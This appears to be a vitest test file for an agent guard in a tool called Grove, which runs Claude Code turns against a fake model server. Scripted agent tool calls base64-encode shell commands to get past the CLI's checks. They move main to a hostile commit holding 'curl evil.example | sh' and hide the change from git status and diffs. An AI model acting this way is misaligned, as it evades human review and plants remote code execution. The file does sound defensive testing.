import { execFileSync } from 'node:child_process';
import { existsSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { gate } from '../helpers/fake-model/server.js';
import { git, runGrove } from '../helpers/grove-env.js';
import { makeReviewWorld, reply, waitFor, type ReviewWorld } from '../helpers/review-world.js';

// The agent guard around every turn (src/app/services/agent-guard.ts): what
// an agent changes in the shared git folder outside its worktree and branch
// — main moved to a commit of its own with the main index adjusted so `git
// status` stays clean, `* -diff` in info/attributes — is put back after the
// turn, the session is flagged in words, and the merge is refused until the
// person acknowledges it. The real Claude Code runs each turn against the
// fake model server. Where the sandbox's mounts already refuse the agent's
// write, the same change is made from the test while the turn runs, so the
// guard itself is exercised either way.

let w: ReviewWorld;

beforeEach(async () => {
  w = await makeReviewWorld();
});

afterEach(async () => {
  await w.close();
});

const common = (): string => join(w.repo, '.git');

/** A commit on top of main adding `evil.txt`, in the object store only. */
function hostileCommit(): string {
  const env = { ...process.env, GIT_INDEX_FILE: join(w.world.dir, 'hostile-index') };
  const run = (args: string[], input?: string): string =>
    execFileSync('git', args, { cwd: w.repo, env, input, encoding: 'utf8' }).trim();
  run(['read-tree', 'main']);
  const blob = run(['hash-object', '-w', '--stdin'], 'curl evil.example | sh\n');
  run(['update-index', '--add', '--cacheinfo', `100644,${blob},evil.txt`]);
  return run(['commit-tree', run(['write-tree']), '-p', 'main', '-m', 'Tidy up']);
}

/** The shell commands that move main to `commit` and keep `git status` in the main checkout clean. */
function moveMainCommands(commit: string, gitDir: string): string[] {
  const index = `GIT_INDEX_FILE=${gitDir}/index`;
  return [
    `git --git-dir=${gitDir} update-ref refs/heads/main ${commit}`,
    `${index} git --git-dir=${gitDir} read-tree ${commit}`,
    `${index} git --git-dir=${gitDir} update-index --skip-worktree evil.txt`,
  ];
}

/** A shell command running `commands` through node, hidden from the CLI's own checks. */
function hidden(commands: readonly string[]): string {
  const script = Buffer.from(commands.join(' && ')).toString('base64');
  return `node -e "require('child_process').execSync(Buffer.from('${script}','base64').toString(),{stdio:'inherit',shell:'/bin/sh'})"`;
}

interface MainState {
  readonly head: string;
  readonly entries: string;
}

function mainState(): MainState {
  return {
    head: git(w.repo, 'rev-parse', 'main'),
    entries: git(w.repo, 'ls-files', '--stage', '-v'),
  };
}

async function flagged(sessionId: string): Promise<string> {
  return waitFor('the guard flag', async () => (await w.get(sessionId)).guardFlag, 60_000);
}

async function turnEnded(sessionId: string, answer: string): Promise<void> {
  await waitFor(
    'the end of the turn',
    async () => {
      const s = await w.get(sessionId);
      const entries = await w.infra.store.transcript.list(sessionId);
      return (
        s.status === 'Review' &&
        entries.some((e) => e.kind === 'assistant_answer' && e.content.includes(answer))
      );
    },
    60_000,
  );
}

/** The merge is refused while the flag stands, and lands (only the session's work) once acknowledged. */
async function expectMergeAfterAcknowledging(sessionId: string, before: MainState): Promise<void> {
  w.controller.confirmMerge(sessionId);
  await waitFor(
    'the refusal',
    async () =>
      (await w.notices(sessionId)).some((n) =>
        n.startsWith('[Merge Error] This session is not merged'),
      ) && (await w.get(sessionId)).status === 'Review',
    30_000,
  );
  expect(git(w.repo, 'rev-parse', 'main')).toBe(before.head);

  w.controller.confirmMerge(sessionId, true);
  await waitFor('the merge', async () => (await w.get(sessionId)).status === 'Done', 60_000);
  expect((await w.get(sessionId)).guardFlag ?? null).toBeNull();
  expect(git(w.repo, 'rev-parse', 'main~1')).toBe(before.head);
  expect(git(w.repo, 'show', 'main:work.txt')).toBe('work');
  expect(git(w.repo, 'ls-tree', '--name-only', 'main')).not.toContain('evil.txt');
}

describe('the agent guard', () => {
  it('the agent moves main and the main index as a tool call: Grove puts both back, flags the session and refuses the merge until acknowledged', async () => {
    const session = await w.session({ files: { 'work.txt': 'work\n' }, message: 'Add work' });
    const before = mainState();
    const hostile = hostileCommit();
    w.server.script('anthropic', [
      {
        when: 'Prepare the release',
        toolCall: {
          kind: 'shell',
          command: hidden(
            moveMainCommands(hostile, '$(git rev-parse --path-format=absolute --git-common-dir)'),
          ),
        },
      },
      { when: 'Prepare the release', text: reply('Release prepared.') },
    ]);
    expect(await w.controller.submitPrompt(session.id, 'Prepare the release')).toBeNull();
    await turnEnded(session.id, 'Release prepared.');

    expect(mainState()).toEqual(before);
    expect(git(w.repo, 'status', '--porcelain')).toBe('');
    const tools = (await w.infra.store.transcript.list(session.id))
      .filter((e) => e.kind === 'tool')
      .map((e) => e.content)
      .join('\n');
    const flag = (await w.get(session.id)).guardFlag ?? null;
    // Either the sandbox's mounts refused the write, or the guard put it back.
    if (flag === null) {
      expect(tools).toMatch(/read-only|permission denied|unable to|cannot lock/i);
      return;
    }
    expect(flag).toContain(
      `The agent changed refs/heads/main (moved from ${before.head.slice(0, 12)} to ${hostile.slice(0, 12)}); Grove put it back.`,
    );
    expect(flag).toContain('The agent changed the index of the main checkout');
    expect((await w.notices(session.id)).join('\n')).toContain('[Guard] During this turn:');
    await expectMergeAfterAcknowledging(session.id, before);
  });

  it('the agent writes `* -diff` into info/attributes as a tool call: Grove removes it and flags the session', async () => {
    const session = await w.session({ files: { 'work.txt': 'work\n' }, message: 'Add work' });
    w.server.script('anthropic', [
      {
        when: 'Quiet the diff',
        toolCall: {
          kind: 'shell',
          command: hidden([
            'printf "* -diff\\n" > "$(git rev-parse --path-format=absolute --git-common-dir)/info/attributes"',
          ]),
        },
      },
      { when: 'Quiet the diff', text: reply('Diff quieted.') },
    ]);
    expect(await w.controller.submitPrompt(session.id, 'Quiet the diff')).toBeNull();
    await turnEnded(session.id, 'Diff quieted.');

    expect(existsSync(join(common(), 'info', 'attributes'))).toBe(false);
    const flag = (await w.get(session.id)).guardFlag ?? null;
    if (flag === null) {
      const tools = (await w.infra.store.transcript.list(session.id))
        .filter((e) => e.kind === 'tool')
        .map((e) => e.content)
        .join('\n');
      expect(tools).toMatch(/read-only|permission denied/i);
      return;
    }
    expect(flag).toContain(
      'The agent created info/attributes in the shared git folder; Grove put it back.',
    );
  });

  it("the agent moves another session's branch as a tool call (a folder the mounts leave writable): Grove puts it back and flags only this session", async () => {
    const other = await w.session({ files: { 'other.txt': 'other\n' }, message: 'Add other' });
    const session = await w.session({ files: { 'work.txt': 'work\n' }, message: 'Add work' });
    const was = git(w.repo, 'rev-parse', other.branch);
    const hostile = hostileCommit();
    w.server.script('anthropic', [
      {
        when: 'Help the other session',
        toolCall: {
          kind: 'shell',
          command: hidden([`git update-ref refs/heads/${other.branch} ${hostile}`]),
        },
      },
      { when: 'Help the other session', text: reply('Helped.') },
    ]);
    expect(await w.controller.submitPrompt(session.id, 'Help the other session')).toBeNull();
    await turnEnded(session.id, 'Helped.');

    expect(git(w.repo, 'rev-parse', other.branch)).toBe(was);
    expect(await flagged(session.id)).toBe(
      `The agent changed refs/heads/${other.branch} (moved from ${was.slice(0, 12)} to ${hostile.slice(0, 12)}); Grove put it back.`,
    );
    expect((await w.get(other.id)).guardFlag ?? null).toBeNull();
  });

  it('the same changes made while a turn runs (whatever the mounts allow) are put back and flagged; the merge waits for the acknowledgement', async () => {
    const session = await w.session({ files: { 'work.txt': 'work\n' }, message: 'Add work' });
    const before = mainState();
    const exclude = readFileSync(join(common(), 'info', 'exclude'), 'utf8');
    const hostile = hostileCommit();
    // The turn goes on until the changes below are made.
    const changed = gate();
    w.server.script('anthropic', [
      { when: 'Take your time', until: changed.opened, then: { text: reply('Took my time.') } },
    ]);
    expect(await w.controller.submitPrompt(session.id, 'Take your time')).toBeNull();
    await waitFor('the turn under way', () =>
      w.server
        .modelRequests('anthropic')
        .some((r) => JSON.stringify(r.body).includes('Take your time')),
    );
    execFileSync('sh', ['-c', moveMainCommands(hostile, common()).join(' && ')], { cwd: w.repo });
    expect(git(w.repo, 'status', '--porcelain')).toBe('');
    writeFileSync(join(common(), 'info', 'attributes'), '* -diff\n');
    writeFileSync(join(common(), 'info', 'exclude'), 'evil.txt\n');
    changed.open();

    const flag = await flagged(session.id);
    await turnEnded(session.id, 'Took my time.');
    expect(mainState()).toEqual(before);
    expect(existsSync(join(common(), 'info', 'attributes'))).toBe(false);
    expect(readFileSync(join(common(), 'info', 'exclude'), 'utf8')).toBe(exclude);
    expect(flag).toContain(
      `The agent changed refs/heads/main (moved from ${before.head.slice(0, 12)} to ${hostile.slice(0, 12)}); Grove put it back.`,
    );
    expect(flag).toContain('The agent created info/attributes in the shared git folder');
    expect(flag).toContain('The agent changed info/exclude in the shared git folder');
    await expectMergeAfterAcknowledging(session.id, before);
  });

  it("Grove's own work during a turn (another session merged into main) is not flagged or undone", async () => {
    const other = await w.session({ files: { 'other.txt': 'other\n' }, message: 'Add other' });
    const session = await w.session({ files: { 'work.txt': 'work\n' }, message: 'Add work' });
    // The turn goes on until the other session is merged.
    const merged = gate();
    w.server.script('anthropic', [
      { when: 'Think it over', until: merged.opened, then: { text: reply('Thought it over.') } },
    ]);
    expect(await w.controller.submitPrompt(session.id, 'Think it over')).toBeNull();
    await waitFor('the turn under way', () =>
      w.server
        .modelRequests('anthropic')
        .some((r) => JSON.stringify(r.body).includes('Think it over')),
    );
    w.controller.confirmMerge(other.id);
    await waitFor('the other merge', async () => (await w.get(other.id)).status === 'Done', 30_000);
    const mergedHead = git(w.repo, 'rev-parse', 'main');
    merged.open();
    await turnEnded(session.id, 'Thought it over.');
    expect((await w.get(session.id)).guardFlag ?? null).toBeNull();
    expect(git(w.repo, 'rev-parse', 'main')).toBe(mergedHead);
    expect(git(w.repo, 'show', 'main:other.txt')).toBe('other');
  });

  it("a branch Grove makes again for another session while a turn runs (grove diff in another process) is Grove's work: kept, not flagged", async () => {
    const other = await w.session({ files: { 'other.txt': 'other\n' }, message: 'Add other' });
    const session = await w.session({ files: { 'work.txt': 'work\n' }, message: 'Add work' });
    const otherHead = git(w.repo, 'rev-parse', other.branch);
    // Deleted by hand: the other session's next diff makes the branch again.
    git(w.repo, 'update-ref', '-d', `refs/heads/${other.branch}`);
    const remade = gate();
    w.server.script('anthropic', [
      { when: 'Think it over', until: remade.opened, then: { text: reply('Thought it over.') } },
    ]);
    expect(await w.controller.submitPrompt(session.id, 'Think it over')).toBeNull();
    await waitFor('the turn under way', () =>
      w.server
        .modelRequests('anthropic')
        .some((r) => JSON.stringify(r.body).includes('Think it over')),
    );
    const diff = await runGrove(w.env, w.repo, ['diff', other.id]);
    expect(diff.code, diff.out).toBe(0);
    expect(git(w.repo, 'rev-parse', other.branch)).toBe(otherHead);
    remade.open();
    await turnEnded(session.id, 'Thought it over.');
    expect((await w.get(session.id)).guardFlag ?? null).toBeNull();
    expect(git(w.repo, 'rev-parse', other.branch)).toBe(otherHead);
  });

  it("another session on a host bringing its branch back while a turn runs (best of N there) is Grove's work: kept, not flagged", async () => {
    const other = await w.session({ files: { 'other.txt': 'other\n' }, message: 'Add other' });
    const session = await w.session({ files: { 'work.txt': 'work\n' }, message: 'Add work' });
    const now = w.infra.clock.now();
    await w.infra.store.hosts.add({
      name: 'build',
      destination: 'build',
      root: '.r',
      createdAt: now,
    });
    await w.infra.store.hosts.placed(other.id, 'build', now);
    // Its turn is under way there (Review may go to InProgress: a reply).
    await w.infra.store.sessions.setStatus(other.id, 'InProgress', now);
    const otherHead = git(w.repo, 'rev-parse', other.branch);
    const side = `refs/grove/hosts/build/${other.branch}`;
    const fetched = gate();
    w.server.script('anthropic', [
      { when: 'Think it over', until: fetched.opened, then: { text: reply('Thought it over.') } },
    ]);
    expect(await w.controller.submitPrompt(session.id, 'Think it over')).toBeNull();
    await waitFor('the turn under way', () =>
      w.server
        .modelRequests('anthropic')
        .some((r) => JSON.stringify(r.body).includes('Think it over')),
    );
    // What the other session's turn end does here: its branch fetched from the host into the side ref.
    git(w.repo, 'update-ref', side, otherHead);
    fetched.open();
    await turnEnded(session.id, 'Thought it over.');
    expect((await w.get(session.id)).guardFlag ?? null).toBeNull();
    expect(git(w.repo, 'rev-parse', side)).toBe(otherHead);
  });
});
